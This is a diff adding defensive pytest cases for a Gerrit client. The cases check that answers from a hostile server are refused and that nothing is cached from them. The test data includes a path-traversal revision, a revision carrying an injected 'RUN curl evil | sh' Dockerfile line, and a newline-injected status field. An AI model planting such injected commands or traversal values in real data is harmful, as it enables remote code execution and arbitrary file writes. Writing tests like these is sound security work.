@@ -120,3 +120,30 @@ def test_gerrit_obeys_retry_after_only_up_to_the_cap():
     assert retry.get_retry_after(asked("3")) == 3.0
     assert retry.get_retry_after(asked("3600")) == MAX_WAIT
     assert retry.new(total=1).get_retry_after(asked("3600")) == MAX_WAIT
+
+
+# A hostile Gerrit (plain-HTTP gerrit.url, a MITM): its answer names the cache file and the
+# Dockerfile text, so each field it controls is checked against what was asked.
+HOSTILE = {
+    "revision-climbs-out": ({"current_revision": "../../../../outside"}, "is not 40 hex digits"),
+    "revision-injects-a-line": ({"current_revision": "a" * 40 + "\nRUN curl evil | sh"}, "is not 40 hex digits"),
+    "revision-not-a-string": ({"current_revision": ["a" * 40]}, "is not 40 hex digits"),
+    "other-project": ({"project": "evil/nova"}, "for project 'evil/nova', not the requested 'openstack/nova'"),
+    "other-branch": ({"branch": "master"}, "for branch 'master', not the requested 'stable/queens'"),
+    "other-change-id": ({"change_id": "I" + "f" * 40}, "for change_id"),
+    "unknown-status": ({"status": "MERGED\nRUN x"}, "is none of NEW, MERGED"),
+    "bad-submitted-time": ({"submitted": "yesterday"}, "submitted time 'yesterday'"),
+}
+
+
+@pytest.mark.parametrize("answer, expected", HOSTILE.values(), ids=HOSTILE.keys())
+def test_a_hostile_gerrit_answer_is_refused_and_writes_nothing(tmp_path, answer, expected):
+    with run_fake_gerrit() as fake:
+        fake.add(FakeChange("openstack/nova", "stable/queens", CID, PATCH, answer=answer))
+        c = client(fake, tmp_path / "work")
+        with pytest.raises(GerritError) as err:
+            c.patch(c.change("openstack/nova", "stable/queens", CID))
+    assert expected in err.value.message and CID in err.value.message
+    assert "\n" not in err.value.message, "the message must not carry the injected line"
+    assert not list(tmp_path.rglob("*")), "nothing may be cached from a refused answer"
+    assert not (tmp_path / "work" / "cache" / "patches" / "../../../../outside.patch").resolve().exists()
